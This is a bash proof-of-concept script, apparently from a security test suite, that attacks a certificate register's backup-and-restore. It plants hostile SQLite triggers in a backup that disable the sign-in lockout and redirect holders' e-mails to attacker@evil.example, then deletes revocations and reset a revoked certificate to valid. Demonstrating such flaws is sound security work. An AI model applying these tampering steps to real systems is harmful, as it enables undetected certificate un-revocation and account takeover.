#!/usr/bin/env bash
# A backup file changed by someone who can write the backup storage (no register access, no password):
# its guard triggers dropped and triggers of the attacker's own added. `db restore --replace` by the real
# administrator takes it as it is; nothing (restore, audit verify, db info) looks at the schema.
#  (a) guards gone: a revocation deleted / status set back with sqlite3 on the restored register is accepted
#      (on the register before the restore: refused by the database);
#  (b) a trigger of the attacker runs on every later write: here it empties signin_failures, so the
#      sign-in lockout never locks (unprotected table: audit verify stays intact);
#  (c) a trigger firing on the restore's own event changes a bound row: the restore fails only AFTER it has
#      overwritten the register (`--replace`): the good register is gone.
NAME=03-crafted-backup
source "$(dirname "$0")/common.sh"
setup || exit 1
submit_approve || exit 1; mkcsr "$W/h1.csr"; issue "$APP" "$W/h1.csr" "$W/c1.pem" || { show $?; exit 1; }; S1=$SERIAL
as off1 certificate revoke --ca NCA --serial "$S1" --reason key_compromise --basis holder_application --ca-passphrase-file "$W/ca.pass"; show $?
mkdir -m 700 "$W/bk"
as admin db backup --out "$W/bk/b1.sqlite"; show $?
say "before: the live register refuses raw edits"
sqlite3 "$DB" "DELETE FROM revocations" 2>&1 | sed 's/^/   sqlite3: /'
say "attacker edits the backup file (guards dropped, own triggers added)"
cp "$W/bk/b1.sqlite" "$W/bk/evil.sqlite"
for t in $(sqlite3 "$W/bk/evil.sqlite" "SELECT name FROM sqlite_master WHERE type='trigger'"); do sqlite3 "$W/bk/evil.sqlite" "DROP TRIGGER \"$t\""; done
sqlite3 "$W/bk/evil.sqlite" "CREATE TRIGGER zz_no_lockout AFTER INSERT ON signin_failures BEGIN DELETE FROM signin_failures WHERE login = NEW.login; END;
CREATE TRIGGER zz_no_lockout2 AFTER UPDATE ON signin_failures BEGIN DELETE FROM signin_failures WHERE login = NEW.login; END;"
echo "   triggers left in the edited backup: $(sqlite3 "$W/bk/evil.sqlite" "SELECT group_concat(name) FROM sqlite_master WHERE type='trigger'")"
cp "$DB" "$W/register-before.sqlite"
say "(a)+(b) the administrator restores it over the register"
as admin db restore --from "$W/bk/evil.sqlite" --replace; show $?
as aud audit verify; show $?
as admin db info; show $?
echo "   triggers now in the live register: $(sqlite3 "$DB" "SELECT count(*) FROM sqlite_master WHERE type='trigger'")"
say "(a) raw edits on the restored register"
sqlite3 "$DB" "DELETE FROM revocations WHERE serial='$S1'; UPDATE certificates SET status='valid' WHERE serial='$S1';" 2>&1 | sed 's/^/   sqlite3: /'
echo "   certificate $S1 status now: $(sqlite3 "$DB" "SELECT status FROM certificates WHERE serial='$S1'"), revocations rows: $(sqlite3 "$DB" "SELECT count(*) FROM revocations")"
as aud audit verify; show $?
say "(b) 12 wrong passwords for op, one after another, then the right one"
for i in $(seq 1 12); do echo "wrong-$i" >"$W/w.pw"; chmod 600 "$W/w.pw"; "$CLI" --db "$DB" --lang en --as op --password-file "$W/w.pw" application list >/dev/null 2>"$W/e"; r=$?; done
echo "   last wrong guess: rc=$r $(head -c 120 "$W/e")"
"$CLI" --db "$DB" --lang en --as op --password-file "$W/op.pw" application list >/dev/null 2>"$W/e"; echo "   right password: rc=$? $(head -c 160 "$W/e")"
echo "   signin_failures rows: $(sqlite3 "$DB" "SELECT count(*) FROM signin_failures")"
say "(c) a fresh register; a backup whose trigger rewrites a holder's e-mail when the restore records its event"
NAME=03c-crafted-backup; W=/work/attack26/work/$NAME; rm -rf "$W"; mkdir -p "$W"; DB=$W/register.sqlite
setup || exit 1
submit_approve || exit 1; mkcsr "$W/h1.csr"; issue "$APP" "$W/h1.csr" "$W/c1.pem" || exit 1
mkdir -m 700 "$W/bk"; as admin db backup --out "$W/bk/b1.sqlite"; show $?
cp "$W/bk/b1.sqlite" "$W/bk/evil.sqlite"
sqlite3 "$W/bk/evil.sqlite" "CREATE TRIGGER zz_on_restore AFTER INSERT ON audit_events WHEN NEW.event_type = 'register.restored' BEGIN UPDATE persons SET email = 'attacker@evil.example'; END;"
submit_approve "$(newiin 77)" Second || exit 1   # the live register moves on after the backup
sha_before=$(sha256sum "$DB" | cut -c1-16); apps_before=$(sqlite3 "$DB" "SELECT count(*) FROM applications")
as admin db restore --from "$W/bk/evil.sqlite" --replace; show $?
echo "   register file sha256 before ${sha_before}…, after $(sha256sum "$DB" | cut -c1-16)…; applications before $apps_before, after $(sqlite3 "$DB" "SELECT count(*) FROM applications")"
echo "   persons' e-mail now: $(sqlite3 "$DB" "SELECT group_concat(email) FROM persons")"
as aud audit verify; show $?
